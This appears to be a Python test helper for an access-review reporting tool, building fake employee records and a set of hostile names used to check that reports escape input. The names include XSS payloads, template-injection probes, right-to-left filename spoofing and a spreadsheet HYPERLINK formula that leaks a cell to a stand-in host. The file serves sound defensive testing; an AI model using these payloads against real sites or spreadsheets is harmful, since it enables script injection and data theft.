"""Reports to look at: made-up people decided by the real OPA, and names that mean harm."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from pathlib import Path
from random import Random
from typing import Any
from zoneinfo import ZoneInfo

import msgspec
import yaml

from icaccess.models import Employee, InvalidRecord, Record
from icaccess.opa.client import AccessClient
from icaccess.review.report_data import Report
from icaccess.review.report_gather import draw
from icaccess.store.database import open_store
from icaccess.targets.ledger import LedgerTarget
from tests import people

ROOT = Path(__file__).parents[3]
DAY = date(2026, 3, 10)
DENVER = ZoneInfo("America/Denver")

HOSTILE = {
    "script": "<script>window.harmed = true</script>",
    "image": '<img src=x onerror="window.harmed = true">',
    "end": "</script><script>window.harmed = true</script><!--",
    "cdata": "]]></textarea><svg onload='window.harmed = true'>",
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7}",
    "quotes": 'O\'Neil "the & one" `x` \\u003c &lt;b&gt;',
    "right-to-left": "\u202etxt.exe\u202c \u05d0\u05d1\u05d2 \u2067abc",
    "long": "W" * 10_000,
    "formula": '=HYPERLINK("https://harm.example/?" & A1)',
    "controls": "a\tb\u2028c\u0000d",
    "emoji": "\U0001f469\u200d\U0001f3eb Zo\u0301e",
}


def sample(seed: int, size: int) -> list[Record]:
    """Made-up employees for the project's own policy data; a few of them cannot be read."""
    rng = Random(seed)
    data: dict[str, Any] = {
        name: yaml.safe_load((ROOT / "config" / name / "data.yaml").read_text())
        for name in ("requirements", "locations", "calendar")
    }
    records: list[Record] = []
    for number in range(size):
        ident = f"{number:06}"
        if number % 97 == 13:
            records.append(InvalidRecord(ident, f"facts.yaml line {number}: name: 'Private Person' is wrong"))
            continue
        facts = people.person(rng, data, ident)
        facts |= {"name": f"Sample Person {number}", "email": f"s{number}@sample.example"}
        records.append(msgspec.convert(facts, Employee))
    return records


def hostile() -> list[Record]:
    """Somebody with nothing but a name, for each name that means harm."""
    nothing: dict[str, Any] = dict.fromkeys(("employment", "assignments", "certifications", "approvals"), ())
    return [
        Employee(id=f"h-{kind}", name=name, username=name, email=name, **nothing)
        for kind, name in HOSTILE.items()
    ]


def drawn(records: Iterable[Record], client: AccessClient, folder: Path, **more: Any) -> Report:
    """The report on records, decided by OPA; nothing was ever applied."""
    with open_store(f"sqlite:///{folder / 'empty.db'}", read_only=True) as store:
        return draw(records, client, LedgerTarget(store), store, DAY, DENVER, **more)


def multiplied(report: Report, size: int) -> Report:
    """The same report with its people repeated, under ids of their own, until there are `size`."""
    replace = msgspec.structs.replace
    people = [report.people[at % len(report.people)] for at in range(size)]
    return replace(report, people=tuple(replace(one, id=f"{at:06}") for at, one in enumerate(people)))
